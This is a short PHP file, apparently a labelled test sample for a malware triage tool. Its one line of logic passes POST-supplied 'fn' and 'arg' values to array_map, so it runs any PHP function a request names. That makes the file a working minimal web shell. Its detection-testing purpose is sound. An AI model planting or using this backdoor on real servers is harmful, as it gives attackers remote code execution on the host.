<?php
// triage-expect: triage_php_tiny_dynamic_exec
$in =& $_POST;
array_map($in['fn'], array($in['arg']));
